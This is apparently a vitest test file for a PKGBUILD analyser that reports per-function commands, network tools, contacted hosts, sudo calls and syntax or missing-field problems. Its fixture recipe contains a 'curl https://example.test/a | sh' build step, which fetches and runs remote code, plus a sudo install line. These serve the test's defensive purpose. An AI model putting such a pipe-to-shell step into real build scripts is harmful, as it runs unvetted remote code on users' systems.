import { expect, test } from 'vitest';
import { reportPkgbuild } from '../../src/recipe/report-pkgbuild.js';

const RECIPE = `pkgname=hello
pkgver=1
pkgrel=1
arch=(x86_64)
install=hello.install
build() {
  curl https://example.test/a | sh
  sh ./configure
}
package() { sudo cp hello /usr/bin/hello; }
`;

test('says what a recipe does, function by function, in plain data', () => {
  const report = reportPkgbuild(RECIPE, { architecture: 'x86_64' });
  expect(report).toMatchObject({
    text: RECIPE,
    installScriptlets: ['hello.install'],
    topLevel: { commands: [] },
    functions: [
      {
        name: 'build',
        commands: [
          { name: 'curl', count: 1 },
          { name: 'sh', count: 2 },
        ],
        networkTools: ['curl'],
        hosts: ['example.test'],
        range: { start: { line: 6 } },
      },
      { name: 'package', privileged: [{ text: expect.stringContaining('sudo') }] },
    ],
  });
  expect(JSON.parse(JSON.stringify(report))).toEqual(report);
});

test('has what makepkg would refuse, on this architecture', () => {
  const codes = (architecture: string) =>
    reportPkgbuild('pkgname=hello\npkgver=1\narch=(x86_64)\n', { architecture }).problems.map(
      ({ severity, code }) => `${severity} ${code}`,
    );
  expect(codes('x86_64')).toEqual(['error MISSING_FIELD']);
});

test('any text has a report', () => {
  const { text, problems } = reportPkgbuild('build() {', { architecture: 'x86_64' });
  expect([text, problems[0]?.code]).toEqual(['build() {', 'SYNTAX']);
});
